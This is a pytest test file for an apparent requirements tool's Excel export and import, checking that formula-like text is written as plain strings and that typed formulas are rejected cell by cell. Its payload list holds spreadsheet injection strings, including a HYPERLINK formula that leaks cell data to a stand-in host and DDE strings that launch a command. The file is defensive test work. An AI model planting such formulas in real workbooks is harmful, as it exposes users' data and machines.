"""Spreadsheet injection: text from program files is exported as text, never as a live
formula; a formula typed into a workbook is an error at its cell, never a silent change."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest
from openpyxl import load_workbook
from tests.conftest import snapshot_tree
from tests.loading.conftest import replace
from typer.testing import CliRunner, Result

from icmkit.cli.app import app

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
]


def invoke(*args: str) -> Result:
    return CliRunner().invoke(app, list(args))


def _export(program: Path, book: Path) -> None:
    result = invoke("export", "xlsx", str(program), "--out", str(book))
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_title_that_looks_like_a_formula_is_exported_as_text(
    minimal_program: Path, tmp_path: Path, payload: str
) -> None:
    quoted = payload.replace("'", "''")
    replace(
        minimal_program,
        "requirements/core.yaml",
        "title: Help set up the month-end close checklist",
        f"title: '{quoted}'",
    )
    book = tmp_path / "r.xlsx"
    _export(minimal_program, book)

    with zipfile.ZipFile(book) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        assert all(b"<f>" not in archive.read(n) and b"<f " not in archive.read(n) for n in sheets)
    workbook = load_workbook(book)
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value is not None:
                    assert cell.data_type == "s", (sheet.title, cell.coordinate, cell.value)
    titles = [row[2] for row in workbook["Requirements"].iter_rows(values_only=True)]
    assert payload in titles

    before = snapshot_tree(minimal_program)
    result = invoke("import", "xlsx", str(book), "--path", str(minimal_program))
    assert result.exit_code == 0, result.output
    assert snapshot_tree(minimal_program) == before


def test_a_formula_in_a_cell_is_an_error_at_that_cell(
    minimal_program: Path, tmp_path: Path
) -> None:
    """A formula in the `hours` cell used to delete `hours` from the requirement."""
    book = tmp_path / "r.xlsx"
    _export(minimal_program, book)
    workbook = load_workbook(book)
    sheet = workbook["Requirements"]
    header = [cell.value for cell in sheet[1]]
    sheet.cell(row=4, column=header.index("hours") + 1).value = "=2*2"
    sheet.cell(row=2, column=header.index("title") + 1).value = '=HYPERLINK("http://x","y")'
    workbook.save(book)
    before = snapshot_tree(minimal_program)

    result = invoke("import", "xlsx", str(book), "--path", str(minimal_program))

    assert result.exit_code == 2
    assert result.stderr.splitlines() == [
        f"icmkit: error: {book} was not imported; nothing was written:",
        '  Requirements!C2: a formula (=HYPERLINK("http://x","y")), not a value; type the '
        "value itself (formulas are not imported)",
        "  Requirements!J4: a formula (=2*2), not a value; type the value itself (formulas "
        "are not imported)",
    ]
    assert snapshot_tree(minimal_program) == before


def test_numbers_are_exported_as_their_text(minimal_program: Path, tmp_path: Path) -> None:
    replace(minimal_program, "requirements/core.yaml", "hours: 4", "hours: 2.50")
    book = tmp_path / "r.xlsx"
    _export(minimal_program, book)
    rows = list(load_workbook(book)["Requirements"].iter_rows(values_only=True))
    assert rows[3][6:10] == ("3", "proposed", "ana", "2.5")
    before = snapshot_tree(minimal_program)
    assert invoke("import", "xlsx", str(book), "--path", str(minimal_program)).exit_code == 0
    assert snapshot_tree(minimal_program) == before


def test_a_control_character_in_a_title_does_not_stop_the_export(
    minimal_program: Path, tmp_path: Path
) -> None:
    replace(
        minimal_program,
        "requirements/core.yaml",
        "title: Help set up the month-end close checklist",
        'title: "Help\\x01 set up"',
    )
    book = tmp_path / "r.xlsx"
    _export(minimal_program, book)
    titles = [row[2] for row in load_workbook(book)["Requirements"].iter_rows(values_only=True)]
    assert "Help\ufffd set up" in titles


def test_team_ids_in_the_owner_drop_down_are_text_without_control_characters(
    minimal_program: Path, tmp_path: Path
) -> None:
    """A team id holding a control character made the export stop with an internal error;
    one that looks like a formula went into the hidden list as a live formula."""
    replace(
        minimal_program,
        "program.yaml",
        "    - {id: bo,",
        '    - {id: "b\\x01x", name: X, role: R, side: customer}\n'
        "    - {id: '=1+1', name: Eve, role: R, side: customer}\n"
        "    - {id: bo,",
    )
    book = tmp_path / "r.xlsx"
    _export(minimal_program, book)
    store = load_workbook(book)["Choices"]
    owners = [cell for row in store.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type == "s" for cell in owners)
    assert {"b\ufffdx", "=1+1"} <= {cell.value for cell in owners}
